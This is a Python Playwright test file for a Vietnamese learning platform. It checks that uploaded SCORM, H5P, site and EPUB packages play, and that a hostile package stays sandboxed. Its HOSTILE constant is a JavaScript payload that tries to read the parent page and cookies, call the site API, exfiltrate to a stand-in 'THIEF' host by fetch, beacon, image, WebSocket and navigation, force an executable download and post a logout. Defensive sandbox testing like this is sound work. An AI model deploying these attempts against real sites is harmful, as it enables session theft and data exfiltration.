"""Packages in a real browser: what a lesson can do there, and what a hostile one cannot."""

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any, Final

import pytest
from playwright.sync_api import Page, expect

from tests.inspection import package_samples
from tests.inspection.samples import epub, zipped
from tests.journeys.browsing import LONG, PHONE, Visit
from tests.journeys.conftest import VisitStart
from tests.journeys.house import TEACHER, House, draft_of_files

pytestmark = pytest.mark.timeout(LONG)

LESSON: Final = """<!doctype html><html lang="vi"><title>Bài</title><body><h1>Bài tập</h1>
<form id="f"><label>Đáp số <input name="x"></label><button>Nộp</button></form><p id="said"></p>
<script>
let api = null;
for (let at = window; !api; at = at.parent) { api = at.API || null; if (at === at.parent) break; }
const said = document.getElementById("said");
said.textContent = "mở: " + api.LMSInitialize("") + ", cũ: " + api.LMSGetValue("cmi.suspend_data");
document.getElementById("f").addEventListener("submit", (event) => {
  event.preventDefault();
  api.LMSSetValue("cmi.suspend_data", "đã làm");
  api.LMSSetValue("cmi.core.score.raw", "80");
  api.LMSSetValue("cmi.core.lesson_status", "passed");
  said.textContent = "lưu: " + api.LMSCommit("") + ", đọc: " + api.LMSGetValue("cmi.suspend_data");
});
addEventListener("pagehide", () => api.LMSFinish(""));
</script>"""
LIBRARY: Final = """H5P.Kho = function (parameters) {
  this.attach = (box) => { box.html("<button>" + parameters.cau + "</button>");
    box.find("button").on("click", () => box.append("<p>Đúng rồi</p>")); };
};"""

# What a page of a package tries; each attempt answers a word, and "" when it was stopped.
HOSTILE: Final = """<!doctype html><title>x</title><body><script>
const site = "SITE", thief = "THIEF", done = {};
const attempt = async (name, act) => {
  try { done[name] = String(await act() ?? ""); } catch (error) { done[name] = ""; }
};
const slowly = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 1500))]);
(async () => {
  await attempt("top document", () => top.document.title);
  await attempt("site in parent", () => parent.parent.document.body.innerHTML);
  await attempt("cookie", () => { document.cookie = "kho=x; path=/"; return document.cookie; });
  await attempt("api", async () =>
    (await slowly(fetch(site + "/api/me", { credentials: "include" }))).status);
  await attempt("api without cors", async () =>
    (await slowly(fetch(site + "/api/me", { mode: "no-cors" }))).type);
  await attempt("thief", async () =>
    (await slowly(fetch(thief + "/fetch", { mode: "no-cors" }))).type);
  await attempt("beacon", () => navigator.sendBeacon(thief + "/beacon", "x") || "");
  await attempt("image", () => slowly(new Promise((yes, no) => {
    const image = new Image(); image.onload = () => yes("seen"); image.onerror = no;
    image.src = thief + "/image"; })));
  await attempt("socket", () => slowly(new Promise((yes, no) => {
    const line = new WebSocket(thief.replace("http", "ws"));
    line.onopen = () => yes("open"); line.onerror = no; })));
  await attempt("frame", () => slowly(new Promise((yes) => {
    const frame = document.createElement("iframe");
    frame.src = site + "/tai-khoan"; document.body.append(frame);
    frame.onload = () => { try { yes(frame.contentDocument.title); } catch { yes(""); } }; })));
  await attempt("script", () => slowly(new Promise((yes, no) => {
    const script = document.createElement("script");
    script.src = thief + "/script"; script.onload = () => yes("ran");
    script.onerror = no; document.head.append(script); })));
  await attempt("window", () => window.open(thief + "/window") ? "open" : "");
  await attempt("worker", async () =>
    (await slowly(navigator.serviceWorker.register("w.js"))).scope);
  await attempt("form to a window", () => {
    const form = document.createElement("form");
    form.action = thief + "/form"; form.target = "_top";
    document.body.append(form); form.submit(); });
  await attempt("top", () => { top.location = thief + "/top"; });
  await attempt("top by link", () => {
    const link = document.createElement("a"); link.href = thief + "/link"; link.target = "_top";
    document.body.append(link); link.click(); });
  await attempt("other package", async () => (await slowly(fetch(OTHER))).status);
  document.body.dataset.done = JSON.stringify(done);
  // These end the page itself, whether they are stopped or not.
  await new Promise((yes) => setTimeout(yes, 1500));
  await attempt("download", () => {
    const link = document.createElement("a"); link.href = "w.js"; link.download = "x.exe";
    document.body.append(link); link.click(); });
  await attempt("form", () => {
    const form = document.createElement("form");
    form.method = "post"; form.action = site + "/dang-xuat";
    document.body.append(form); form.submit(); });
})();
</script>"""


@contextmanager
def thief() -> Iterator[tuple[str, list[str]]]:
    """A server of somebody else's: its address, and the first line of all that it is asked."""
    heard: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0.2)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                try:
                    connection, _ = listening.accept()
                except TimeoutError:
                    continue
                with connection:
                    connection.settimeout(1)
                    heard.append(connection.recv(200).split(b"\r\n")[0].decode("latin-1"))
                    connection.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n")

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield f"http://127.0.0.1:{listening.getsockname()[1]}", heard
        finally:
            over.set()
            thread.join()


def played(visit: Visit, address: str, email: str = TEACHER) -> Page:
    """Open the material's page and tap on "Mở ngay"."""
    if email:
        visit.sign_in(email)
    page = visit.go(address)
    page.get_by_role("link", name="Mở ngay").first.click()
    return page


def test_a_lesson_of_scorm_finds_its_interface_and_nothing_is_kept(
    house: House, visiting: VisitStart
) -> None:
    content = package_samples.scorm(files={"a.html": LESSON})
    page = played(visiting(**PHONE), draft_of_files(house, {"Bài.zip": content}))

    player = page.frame_locator("#player")
    lesson = player.frame_locator("iframe")
    expect(lesson.locator("#said")).to_have_text("mở: true, cũ: ")
    lesson.get_by_label("Đáp số").fill("80")
    lesson.get_by_role("button", name="Nộp").click()
    expect(lesson.locator("#said")).to_have_text("lưu: true, đọc: đã làm")
    expect(player.get_by_role("status")).to_contain_text("80 điểm, đạt")
    player.get_by_role("button", name="Tiếp").click()
    expect(lesson.locator("body")).to_contain_text("Nội dung luyện tập")
    player.locator("summary").press("Enter")
    player.get_by_role("link", name="Mở đầu").press("Enter")
    expect(lesson.locator("#said")).to_have_text("mở: true, cũ: ")
    page.reload()
    expect(lesson.locator("#said")).to_have_text("mở: true, cũ: ")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_an_activity_of_h5p_is_done(house: House, visiting: VisitStart) -> None:
    page = played(visiting(), draft_of_files(house, {"Hoạt động.h5p": h5p_activity()}))

    player = page.frame_locator("#player")
    player.get_by_role("button", name="Hai cộng hai?").click()
    expect(player.locator("body")).to_contain_text("Đúng rồi")


def h5p_activity() -> bytes:
    said = package_samples.h5p_manifest(
        mainLibrary="H5P.Kho",
        preloadedDependencies=[{"machineName": "H5P.Kho", "majorVersion": 1, "minorVersion": 0}],
    )
    library = {
        "title": "Kho", "machineName": "H5P.Kho", "majorVersion": 1, "minorVersion": 0,
        "patchVersion": 0, "runnable": 1, "preloadedJs": [{"path": "kho.js"}],
    }  # fmt: skip
    return zipped(
        {
            "h5p.json": json.dumps(said),
            "content/content.json": json.dumps({"cau": "Hai cộng hai?"}),
            "H5P.Kho-1.0/library.json": json.dumps(library),
            "H5P.Kho-1.0/kho.js": LIBRARY,
        }
    )


def test_a_site_and_a_book_are_read(house: House, visiting: VisitStart) -> None:
    page = "<p id='x'></p><a href='hai.html'>tiếp</a><script>x.textContent = 'chạy'</script>"
    site = zipped({"index.html": page, "hai.html": "<p>Trang hai</p>"})
    book = epub(
        ["<p>Chương đầu</p><script>document.body.textContent = 'x'</script>", "<p>Cuối</p>"]
    )
    shelf = draft_of_files(house, {"Trang.zip": site, "Sách.epub": book})
    visit = visiting()
    read = played(visit, shelf).frame_locator("#player").frame_locator("iframe")
    expect(read.locator("#x")).to_have_text("chạy")
    read.get_by_role("link", name="tiếp").click()
    expect(read.locator("body")).to_contain_text("Trang hai")

    visit.go(shelf).get_by_role("link", name="Mở ngay").nth(1).click()
    player = visit.page.frame_locator("#player")
    expect(player.frame_locator("iframe").locator("body")).to_contain_text("Chương đầu")
    player.get_by_role("button", name="Tiếp").click()
    expect(player.frame_locator("iframe").locator("body")).to_contain_text("Cuối")
    visit.forgive("Blocked script execution", "Content Security Policy")


@pytest.mark.parametrize("kind", ["scorm", "site"])
def test_a_hostile_package_reaches_nobody(house: House, visiting: VisitStart, kind: str) -> None:
    other = draft_of_files(house, {"Khác.zip": package_samples.scorm()})
    visit = visiting()
    victim = played(visit, other, TEACHER)
    address = victim.locator("#player").get_attribute("src")
    assert address is not None
    with thief() as (elsewhere, heard):
        page = HOSTILE.replace("SITE", house.url).replace("THIEF", elsewhere)
        page = page.replace("OTHER", json.dumps(f"{address}goi/a.html"))
        files = {"a.html": page, "index.html": page, "w.js": "self.x = 1"}
        content = package_samples.scorm(files=files) if kind == "scorm" else zipped(files)
        attacked = visit.go(draft_of_files(house, {"Ác.zip": content}))
        attacked.get_by_role("link", name="Mở ngay").click()
        body = attacked.frame_locator("#player").frame_locator("iframe").locator("body[data-done]")
        body.wait_for(timeout=60_000)
        done: dict[str, Any] = json.loads(body.get_attribute("data-done") or "")
        attacked.wait_for_timeout(2500)

    reached = {name for name, answer in done.items() if answer}
    assert reached <= {"beacon"}, done  # queued, so it says, but never sent: nothing was heard
    assert len(done) == 17
    assert heard == []
    assert attacked.url.startswith(house.url)
    assert len(visit.context.pages) == 1
    assert {cookie["name"] for cookie in visit.context.cookies(house.url)} == {"kho"}
    visit.go("/tai-khoan")
    expect(visit.page.get_by_role("heading", level=1)).to_be_visible()
    visit.troubles.clear()  # every stopped attempt is told in the console


def test_a_package_is_not_opened_in_a_window_of_its_own(house: House, visiting: VisitStart) -> None:
    visit = visiting()
    page = played(visit, draft_of_files(house, {"Bài.zip": package_samples.scorm()}))
    address = page.locator("#player").get_attribute("src")
    assert address is not None
    for path in ("", "goi/a.html"):
        answer = page.goto(address + path)
        assert answer is not None
        assert answer.status == 403
        expect(page.locator("body")).to_contain_text("chỉ mở được trong trang của Kho")
    visit.forgive("403")


def test_the_player_is_used_by_keyboard_and_fills_the_screen(
    house: House, visiting: VisitStart
) -> None:
    page = played(visiting(), draft_of_files(house, {"Bài.zip": package_samples.scorm()}))
    full = page.get_by_role("button", name="Toàn màn hình")
    full.focus()
    full.press("Enter")
    page.wait_for_function("() => document.fullscreenElement?.id === 'player'")
    page.evaluate("document.exitFullscreen()")
    player = page.frame_locator("#player")
    menu = player.locator("summary")
    menu.press("Enter")
    expect(player.get_by_role("link", name="Luyện tập")).to_be_visible()
    menu.press("Escape")
    expect(player.get_by_role("link", name="Luyện tập")).to_be_hidden()
